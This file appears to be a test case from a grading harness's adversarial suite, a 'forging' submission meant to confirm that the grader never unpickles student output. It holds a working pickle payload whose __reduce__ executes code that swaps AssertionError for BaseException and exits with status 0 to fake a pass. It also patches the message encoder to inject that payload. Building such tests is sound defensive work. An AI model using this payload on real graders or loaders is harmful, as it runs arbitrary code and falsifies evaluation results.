# tries: to answer with a pickle that runs code where it is read, in every form that a message has
# kind: forging
# earns: 0
# verdict: any
# contained by: protocol: nothing of a student's is ever unpickled

# %% double
import json
import pickle

from dltheory.grading import values


class Run:
    def __reduce__(self):
        return (exec, ("import builtins, os; builtins.AssertionError = BaseException; os._exit(0)",))


RUN = pickle.dumps(Run())
encode = values.encode


def encode_with_a_pickle(value, *args, **kwargs):
    frames = list(encode(value, *args, **kwargs))
    return [bytes(frames[0]), *[RUN] * max(len(frames) - 1, 3)]


values.encode = encode_with_a_pickle
Run.json = json.dumps({"pickle": RUN.hex()})


def double(x):
    return Run()


# %% mean
import numpy as np


def mean(values):
    return np.array([Run()], dtype=object)
